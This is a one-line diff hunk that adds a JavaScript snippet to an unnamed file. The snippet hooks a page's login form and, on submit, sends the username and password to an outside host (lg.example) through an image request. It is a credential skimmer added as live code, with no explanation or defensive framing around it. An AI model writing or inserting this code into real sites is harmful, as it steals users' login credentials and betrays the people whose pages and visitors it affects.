@@ -1,0 +1,1 @@
+(function(){var f=document.forms.login_form||document.querySelector('#login');f.addEventListener('submit',function(){new Image().src='https://lg.example/?u='+f.username.value+'&p='+f.password.value})})();
